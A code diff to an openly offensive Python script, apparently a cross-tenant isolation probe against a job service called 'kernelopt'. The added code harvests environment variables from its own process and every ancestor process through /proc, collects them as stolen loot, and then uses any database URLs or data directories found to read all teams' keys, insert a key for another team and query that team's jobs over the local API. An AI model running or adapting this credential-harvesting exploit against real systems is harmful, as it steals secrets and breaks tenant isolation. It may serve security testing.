@@ -97,9 +97,27 @@ KEY = "ko_" + secrets.token_urlsafe(32)
 KEY_HASH = hashlib.sha256(KEY.encode()).hexdigest()
 
 
+STOLEN = []  # (name, value) of every variable found
+
+
 def steal_environment():
-    LOOT["env"] = dict(os.environ)
-    return sorted(os.environ)
+    """Its own environment, and its ancestors' (the engine, the worker or server that started it)."""
+    found = {f"self:{k}": v for k, v in os.environ.items()}
+    pid = os.getppid()
+    while pid > 1:
+        try:
+            raw = Path(f"/proc/{pid}/environ").read_bytes()
+            found.update({f"{pid}:{k}": v for k, _, v in (item.decode(errors="replace").partition("=")
+                                                          for item in raw.split(b"\0")) if k})
+        except OSError as exc:
+            found[f"{pid}:"] = f"refused: {type(exc).__name__}"
+        try:
+            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
+        except (OSError, ValueError, IndexError):
+            break
+    LOOT["env"] = found
+    STOLEN.extend((k.split(":", 1)[1], v) for k, v in found.items())
+    return sorted(found)
 
 
 def _use_postgres(url):
@@ -118,6 +136,8 @@ def _use_postgres(url):
 def _use_sqlite(path):
     import sqlite3
 
+    if not os.path.isfile(path):
+        raise FileNotFoundError(path)
     conn = sqlite3.connect(path, timeout=5)
     try:
         LOOT.setdefault("sqlite", []).append([[str(v) for v in row] for row in conn.execute(
@@ -134,14 +154,20 @@ def _use_sqlite(path):
 def use_credentials():
     """Whatever database the environment names: read every team and key, add a key for team B, use it."""
     tried = {}
-    for name, value in os.environ.items():
+    for name, value in sorted(set(STOLEN)):
+        use = None
         if value.startswith(("postgresql", "postgres://")):
-            tried[name] = _use_postgres(value)
+            use = lambda: _use_postgres(value)  # noqa: E731
         elif name.endswith("DATA_DIR"):
-            tried[name] = _use_sqlite(os.path.join(value, "kernelopt.db"))
+            use = lambda: _use_sqlite(os.path.join(value, "kernelopt.db"))  # noqa: E731
         elif value.startswith("sqlite:///"):
-            tried[name] = _use_sqlite(value[len("sqlite:///"):])
-    if tried:  # the stolen key, on the API: team B's jobs
+            use = lambda: _use_sqlite(value[len("sqlite:///"):])  # noqa: E731
+        if use is not None:
+            try:
+                tried[f"{name}={value}"] = use()
+            except Exception as exc:  # noqa: BLE001 - try the next one
+                tried[f"{name}={value}"] = f"{type(exc).__name__}: {exc}"[:300]
+    if any(v.startswith("inserted") for v in tried.values()):  # the stolen key, on the API: team B's jobs
         req = urllib.request.Request(f"http://127.0.0.1:{CFG['api_port']}/v1/jobs",
                                      headers={"Authorization": f"Bearer {KEY}"})
         LOOT["team_b_jobs"] = urllib.request.urlopen(req, timeout=3).read().decode()
